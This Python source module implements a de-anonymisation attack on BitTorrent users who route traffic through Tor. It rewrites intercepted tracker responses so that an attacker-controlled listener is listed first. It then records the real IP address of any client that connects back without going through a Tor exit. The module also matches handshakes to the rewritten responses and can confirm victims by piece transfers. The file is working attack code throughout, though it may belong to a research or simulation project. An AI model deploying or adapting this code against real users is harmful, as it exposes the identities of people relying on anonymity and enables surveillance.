"""Tracker-response hijacking and connect-back verification."""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass
from typing import Optional

from .. import btwire
from ..btwire import AnnounceResponse, Endpoint
from .records import DeanonRecord, Method


@dataclass(frozen=True)
class PendingRewrite:
    time: int
    circuit_id: int
    stream_id: int
    peer_id: Optional[bytes]


@dataclass(frozen=True)
class HijackConnection:
    """One inbound connection to the attacker's listener."""

    time: int
    source: Endpoint
    infohash: bytes
    peer_id: bytes
    tor_routed: bool
    stream_id: Optional[int]
    piece_confirmed: bool = False


class HijackAttack:
    """Rewrites peer lists so the victim's first contact is the attacker,
    then judges the victim by the address it connects back from."""

    def __init__(self, listener: Endpoint, exit_ips, ttl: int = 3600, await_piece: bool = True):
        self.listener = listener
        self.exit_ips = frozenset(exit_ips)
        self.ttl = ttl
        self.await_piece = await_piece
        self.pending: dict[bytes, list[PendingRewrite]] = defaultdict(list)
        self.connections: list[HijackConnection] = []
        self.records: list[DeanonRecord] = []
        self.rewrites = 0

    def rewrite(self, response: AnnounceResponse) -> AnnounceResponse:
        """Put the listener at position 0, evicting whatever was there."""
        peers = list(response.peers)
        if peers:
            peers[0] = self.listener
        else:
            peers = [self.listener]
        return AnnounceResponse(response.interval, peers, dict(response.extra))

    def hijack_rewrite(self, payload: bytes, infohash, circuit_id: int, stream_id: int,
                       now: int, peer_id=None, parsed: Optional[AnnounceResponse] = None) -> bytes:
        """Rewrite an observed tracker response and remember where it went."""
        resp = parsed if parsed is not None else btwire.parse_announce_response(payload)
        self._expire(now)
        self.pending[bytes(infohash)].append(
            PendingRewrite(now, circuit_id, stream_id, bytes(peer_id) if peer_id else None)
        )
        self.rewrites += 1
        return btwire.encode_announce_response(self.rewrite(resp))

    def _expire(self, now: int):
        horizon = now - self.ttl
        for key in [k for k, v in self.pending.items() if v and v[0].time < horizon]:
            kept = [p for p in self.pending[key] if p.time >= horizon]
            if kept:
                self.pending[key] = kept
            else:
                del self.pending[key]

    def _match(self, infohash: bytes, peer_id: bytes, now: int) -> Optional[PendingRewrite]:
        entries = [p for p in self.pending.get(infohash, ()) if p.time >= now - self.ttl]
        if not entries:
            return None
        for p in reversed(entries):
            if p.peer_id == peer_id:
                return p
        return entries[-1]

    def hijack_accept(self, src: Endpoint, handshake: bytes, now: int) -> Optional[DeanonRecord]:
        try:
            hs = btwire.parse_handshake(handshake)
        except btwire.MalformedInput:
            return None
        entry = self._match(bytes(hs.infohash), bytes(hs.peer_id), now)
        if entry is None:
            return None
        tor_routed = src.ip in self.exit_ips
        self.connections.append(
            HijackConnection(now, src, bytes(hs.infohash), bytes(hs.peer_id), tor_routed, entry.stream_id)
        )
        if tor_routed:
            return None
        record = DeanonRecord(
            claimed_ip=src.ip,
            method=Method.HIJACK,
            supporting_streams=frozenset({entry.stream_id}),
            peer_ids_seen=frozenset({hs.peer_id}),
            time=now,
        )
        self.records.append(record)
        return record

    # listener protocol used by the swarm

    def on_connect(self, src: Endpoint, handshake: bytes, now: int) -> bool:
        before = len(self.connections)
        self.hijack_accept(src, handshake, now)
        return self.await_piece and len(self.connections) > before

    def on_piece(self, src: Endpoint, infohash, piece: bytes, now: int):
        for i in range(len(self.connections) - 1, -1, -1):
            c = self.connections[i]
            if c.source == src and c.infohash == bytes(infohash):
                self.connections[i] = HijackConnection(
                    c.time, c.source, c.infohash, c.peer_id, c.tor_routed, c.stream_id, True
                )
                return
